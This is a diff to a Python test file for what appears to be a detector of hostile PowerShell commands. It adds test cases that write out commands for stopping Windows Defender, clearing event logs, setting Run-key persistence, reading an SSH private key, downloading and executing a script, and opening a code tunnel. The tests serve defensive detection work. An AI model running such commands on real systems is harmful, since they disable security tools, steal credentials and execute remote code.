@@ -161,7 +161,7 @@ def test_the_command_behind_the_disguise_is_found(text: str, program: str) -> No
         ),
         ("[Diagnostics.Process]::Start('calc')", "proxy_execution"),
         ("$x = New-Object -ComObject WScript.Shell; $x.Run('calc')", "proxy_execution"),
-        ("New-Object System.Net.Sockets.TCPClient('1.2.3.4',4444)", "raw_socket"),
+        ("New-Object System.Net.Sockets.TcpListener(4444)", "raw_socket"),
         ("Add-Type -MemberDefinition '[DllImport(\"kernel32\")] VirtualAlloc' -Name x", "native_code"),
         ("Set-ExecutionPolicy Bypass -Force", "policy_bypass"),
         ("powershell -ep bypass -w hidden -c x", "policy_bypass"),
@@ -323,6 +323,24 @@ def test_cmd_separators_and_redirections() -> None:
         ("'whoa' + 'mi' | iex", "obfuscated"),
         ("$x = 1; w'ho'ami", "obfuscated"),
         ("net stop 'Windows Event Log'", "defense_tampering"),
+        ("Get-Service WinDefend | Stop-Service", "defense_tampering"),
+        ("(Get-Service WinDefend).Stop()", "defense_tampering"),
+        ("Get-ChildItem C:\\Windows\\System32\\winevt\\Logs | Remove-Item", "log_tampering"),
+        (
+            "[Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('Security')",
+            "log_tampering",
+        ),
+        (
+            "cd HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run; New-ItemProperty . -Name a -Value x",
+            "run_key",
+        ),
+        (
+            "[Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\\Microsoft\\Windows\\CurrentVersion\\Run', $true)",
+            "run_key",
+        ),
+        ('[IO.File]::ReadAllText("$HOME\\.ssh\\id_rsa")', "credential_access"),
+        ("irm https://x.example/a | Out-File a.ps1; .\\a.ps1", "runs_download"),
+        ("code tunnel --name x", "remote_access_tool"),
         ("Set-ExecutionPolicy Bypass -Scope LocalMachine -Force", "policy_bypass"),
     ],
 )
